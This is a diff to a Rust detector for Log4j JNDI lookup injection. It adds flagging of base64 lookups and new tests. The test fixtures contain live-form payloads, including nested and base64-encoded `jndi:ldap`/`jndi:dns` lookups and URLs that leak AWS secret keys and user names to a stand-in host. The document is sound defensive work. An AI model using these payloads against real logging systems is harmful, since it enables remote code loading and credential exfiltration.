@@ -6,11 +6,12 @@
 //! enough to see what each lookup's name resolves to, in one pass over the value, with fixed buffers on the stack
 //! and a bounded nesting depth, and reports a lookup whose resolved name starts with `jndi:`.
 //!
-//! - **Low**: a lookup that resolves to `jndi:…` (plain, nested, case or Unicode tricks, defaults, `date:`), or
-//!   whose default spells `${jndi:` (Log4j substitutes a lookup's value again);
-//!   nesting deeper than Log4j needs ([`MAX_DEPTH`]).
-//! - **Medium**: also lookups nested inside a lookup's name (`${${base64:…}…}`: nothing benign nests them), and
-//!   `${env:…}`/`${sys:…}`-style lookups inside a URL (secrets exfiltrated through a DNS name or a path).
+//! - **Low**: a lookup that resolves to `jndi:…` (plain, nested, case or Unicode tricks, defaults, `date:`); a
+//!   lookup whose default spells `${jndi:` (Log4j substitutes a lookup's value again); nesting deeper than Log4j
+//!   needs ([`MAX_DEPTH`]).
+//! - **Medium**: also lookups nested inside a lookup's name (`${${lower:…}…}`: nothing benign nests them),
+//!   `${base64:…}` lookups (their decoded value is substituted again), and `${env:…}`/`${sys:…}`-style lookups
+//!   inside a URL (secrets exfiltrated through a DNS name or a path).
 //! - **High**: also any `${name:` with a Log4j lookup name (`${env:HOME}`, `${date:…}`).
 
 use super::{Sensitivity, Subject};
@@ -73,8 +74,8 @@ pub fn detect(subject: &Subject<'_>, sensitivity: Sensitivity) -> bool {
     }
     match sensitivity {
         Sensitivity::Low => false,
-        Sensitivity::Medium => seen.nested || (seen.secret && has_url(subject.lower)),
-        Sensitivity::High => seen.nested || seen.secret || seen.known,
+        Sensitivity::Medium => seen.nested || seen.encoded || (seen.secret && has_url(subject.lower)),
+        Sensitivity::High => seen.nested || seen.encoded || seen.secret || seen.known,
     }
 }
 
@@ -89,6 +90,8 @@ struct Seen {
     nested: bool,
     /// A lookup that reads the environment or JVM.
     secret: bool,
+    /// A `${base64:…}` lookup: its value, chosen by the sender, is substituted again.
+    encoded: bool,
     /// A lookup with a name Log4j knows.
     known: bool,
 }
@@ -103,6 +106,9 @@ impl Seen {
         }
         if SECRET_LOOKUPS.iter().any(|l| starts_with_ignore_case(head, l)) {
             self.secret = true;
+        }
+        if starts_with_ignore_case(head, b"base64:") {
+            self.encoded = true;
         }
         if LOOKUPS.iter().any(|l| starts_with_ignore_case(head, l)) {
             self.known = true;
@@ -350,6 +356,7 @@ mod tests {
     fn nested_and_exfiltrating_lookups_are_found_at_medium() {
         for attack in [
             "${${base64:am5kaQ==}:ldap://attacker.test/}",
+            "${base64:JHtqbmRpOmRuczovL2F0dGFja2VyLnRlc3R9}",
             "http://attacker.test/?leak=${env:AWS_SECRET_ACCESS_KEY}",
             "https://${sys:user.name}.attacker.test/",
         ] {
@@ -379,6 +386,14 @@ mod tests {
             "O'Brien paid $5 {approx}",
         ] {
             assert_eq!(level(benign), None, "{benign}");
+        }
+    }
+
+    #[test]
+    fn linear_on_long_runs() {
+        for unit in ["${", "${a:-", "${a}", "}", "${lower:", "$", "${::-j}", "${date:'", "${${a}", ":-", "${jndi"] {
+            let text = unit.repeat(20_000);
+            let _ = level(&text);
         }
     }
 
